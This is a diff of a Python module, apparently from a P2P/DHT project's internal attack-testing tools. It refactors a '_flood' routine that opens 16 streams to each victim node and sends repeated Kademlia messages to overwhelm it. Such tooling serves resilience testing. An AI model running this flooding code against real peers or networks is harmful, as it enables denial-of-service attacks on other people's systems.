@@ -23,10 +23,9 @@ from lattica.dht.config import PROTOCOL as KADEMLIA
 from lattica.dht.kademlia.messages import MessageType, Record, Request, encode
 from lattica.dht.records.keys import content_key
 from lattica.nat.base.wire import encode_length_prefixed
-from lattica.nat.mux.connection import Connection
 from lattica.nat.mux.stream import Stream
 from tools.attack.attack import Attack, Victim
-from tools.attack.attacks.rpc.caller import as_many, send
+from tools.attack.attacks.rpc.caller import on_streams, send
 
 STREAMS = 16
 """Of each enemy at a time."""
@@ -50,25 +49,16 @@ def _flood(
     """Send messages on many streams, `each` on one, and take what comes back."""
 
     async def run(victim: Victim) -> None:
-        async def again_and_again(connection: Connection) -> None:
-            while True:
-                async with (
-                    await connection.open(protocol) as stream,
-                    trio.open_nursery() as nursery,
-                ):
-                    nursery.start_soon(_throw_away, stream)
-                    if begin := first(victim):
-                        await send(stream, begin)
-                    for _ in range(each):
-                        await send(stream, encode_length_prefixed(make()))
-                    nursery.cancel_scope.cancel()
-
-        async def one(connection: Connection) -> None:
+        async def act(stream: Stream) -> None:
             async with trio.open_nursery() as nursery:
-                for _ in range(STREAMS):
-                    nursery.start_soon(again_and_again, connection)
+                nursery.start_soon(_throw_away, stream)
+                if begin := first(victim):
+                    await send(stream, begin)
+                for _ in range(each):
+                    await send(stream, encode_length_prefixed(make()))
+                nursery.cancel_scope.cancel()
 
-        await as_many(victim, one)
+        await on_streams(victim, protocol, act, STREAMS)
 
     return Attack(
         name,
